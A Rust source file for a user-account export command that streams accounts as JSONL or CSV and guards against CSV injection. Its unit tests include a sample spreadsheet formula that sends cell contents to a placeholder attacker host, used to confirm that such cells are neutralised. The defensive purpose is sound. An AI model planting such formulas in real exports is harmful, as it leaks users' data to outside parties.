//! `identity-sync users export [--pool P] [--format jsonl|csv]`: every account with its
//! identities, streamed to standard output in the format `users import` reads back (importing
//! the output adds nothing). Rows are written as the database sends them: memory stays the same
//! whatever the pool's size.

use std::{
    io::{BufWriter, Write},
    process::ExitCode,
};

use anyhow::Context;
use clap::Args;
use futures_lite::StreamExt;
use serde_json::Value;

use super::import::Format;
use crate::{db, settings::Settings};

#[derive(Debug, Args)]
pub struct ExportArgs {
    /// Only the accounts of this user pool.
    #[arg(long)]
    pub pool: Option<String>,
    #[arg(long, value_enum, default_value = "jsonl")]
    pub format: Format,
}

/// The columns of the CSV form, in order (the fields of `users import`).
const COLUMNS: [&str; 11] = [
    "user_pool_id",
    "id",
    "email",
    "email_verified",
    "phone",
    "phone_verified",
    "username",
    "name",
    "protected",
    "attributes",
    "identities",
];

pub async fn run(args: ExportArgs, settings: &Settings) -> anyhow::Result<ExitCode> {
    // Read-only: no migration (an export must not change the database it reads).
    // One streamed statement, as long as the pool is large and the reader slow: no statement
    // bound.
    let pool = db::unbounded_side_pool(&settings.database, "export", 1)?;
    let mut conn = pool.acquire().await?;
    let stdout = BufWriter::with_capacity(1 << 16, std::io::stdout().lock());
    let mut sink = match args.format {
        Format::Jsonl => Sink::Jsonl(stdout),
        Format::Csv => {
            let mut writer = csv::Writer::from_writer(stdout);
            writer.write_record(COLUMNS).map_err(io_error)?;
            Sink::Csv(Box::new(writer))
        }
    };
    let mut rows = sqlx::query_scalar!(
        r#"SELECT jsonb_build_object(
                    'user_pool_id', u.user_pool_id, 'id', u.id, 'email', u.email,
                    'email_verified', u.email_verified, 'phone', u.phone,
                    'phone_verified', u.phone_verified, 'username', u.username, 'name', u.name,
                    'protected', u.protected, 'attributes', u.attributes,
                    'identities', coalesce(
                      (SELECT jsonb_agg(jsonb_build_object('connection', i.connection,
                                                           'external_id', i.external_id)
                                        ORDER BY i.connection, i.external_id)
                       FROM identities i WHERE i.user_id = u.id), '[]'::jsonb))
                  AS "account!"
           FROM users u
           WHERE $1::text IS NULL OR u.user_pool_id = $1
           ORDER BY u.id"#,
        args.pool
    )
    .fetch(&mut *conn);
    let mut count = 0u64;
    while let Some(account) = rows.next().await {
        let account = account.context("reading the accounts")?;
        count += 1;
        let written = match &mut sink {
            Sink::Jsonl(out) => serde_json::to_writer(&mut *out, &account)
                .map_err(std::io::Error::from)
                .and_then(|()| out.write_all(b"\n")),
            Sink::Csv(writer) => writer
                .write_record(COLUMNS.iter().map(|c| cell(&account[*c])))
                .map_err(io_error),
        };
        match written {
            Ok(()) => {}
            // The reader went away (`| head`): stop quietly.
            Err(e) if e.kind() == std::io::ErrorKind::BrokenPipe => return Ok(ExitCode::SUCCESS),
            Err(e) => return Err(e).context("writing the accounts"),
        }
    }
    let flushed = match &mut sink {
        Sink::Jsonl(out) => out.flush(),
        Sink::Csv(writer) => writer.flush(),
    };
    match flushed {
        Err(e) if e.kind() == std::io::ErrorKind::BrokenPipe => {}
        other => other.context("writing the accounts")?,
    }
    drop(rows);
    drop(conn);
    pool.close().await;
    eprintln!("exported {count} account(s)");
    Ok(ExitCode::SUCCESS)
}

enum Sink<W: Write> {
    Jsonl(W),
    Csv(Box<csv::Writer<W>>),
}

fn io_error(e: csv::Error) -> std::io::Error {
    match e.into_kind() {
        csv::ErrorKind::Io(e) => e,
        other => std::io::Error::other(format!("{other:?}")),
    }
}

/// A JSON value as a CSV cell: text as it is (neutralised, see [`neutralise`]), null as an
/// empty cell, booleans as `true` / `false`, objects and lists as JSON.
fn cell(value: &Value) -> String {
    match value {
        Value::Null => String::new(),
        Value::String(s) => neutralise(s),
        Value::Bool(b) => b.to_string(),
        other => other.to_string(),
    }
}

/// A text cell that a spreadsheet would run as a formula (it starts with `=`, `+`, `-`, `@`, a
/// tab or a carriage return: OWASP's "CSV injection"), and one that starts with `'`, get a `'`
/// in front: a spreadsheet shows the text, and `users import` takes exactly one leading `'` off
/// every text cell (see `cli::import`), so the round trip gives back the value as stored.
pub(crate) fn neutralise(text: &str) -> String {
    match text.chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r' | '\'') => format!("'{text}"),
        _ => text.to_owned(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn cells_read_back_as_the_import_reads_them() {
        assert_eq!(cell(&Value::Null), "");
        assert_eq!(cell(&json!("a,b")), "a,b");
        assert_eq!(cell(&json!(true)), "true");
        assert_eq!(
            cell(&json!({"employee_id": "E1"})),
            r#"{"employee_id":"E1"}"#
        );
        assert_eq!(cell(&json!([])), "[]");
    }

    #[test]
    fn cells_a_spreadsheet_would_run_are_neutralised() {
        for (stored, written) in [
            (
                r#"=HYPERLINK("http://evil.example/?x="&A2,"click")"#,
                r#"'=HYPERLINK("http://evil.example/?x="&A2,"click")"#,
            ),
            ("+8613800138000", "'+8613800138000"),
            ("-2+3", "'-2+3"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\tx", "'\tx"),
            ("\rx", "'\rx"),
            ("'quoted", "''quoted"),
            ("张三", "张三"),
            ("a=b", "a=b"),
        ] {
            assert_eq!(cell(&json!(stored)), written, "{stored:?}");
            assert_eq!(crate::cli::import::unneutralise(written), stored);
        }
    }
}
